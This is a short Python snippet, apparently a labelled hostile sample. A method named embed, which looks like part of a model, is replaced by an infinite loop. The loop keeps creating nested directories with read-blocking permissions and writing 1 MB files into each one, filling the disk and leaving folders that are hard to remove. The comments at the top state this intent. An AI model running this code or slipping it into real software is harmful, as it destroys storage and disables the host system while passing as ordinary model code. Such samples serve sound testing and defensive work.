# tries: fill its own folder, with files without end and folders that nobody may open
# loses: embed
import os


def embed(self, input_ids, *more):
    while True:
        os.mkdir("hostile_mark", 0o100)
        os.chdir("hostile_mark")
        with open("hostile_mark", "wb") as file:
            file.write(bytes(1 << 20))
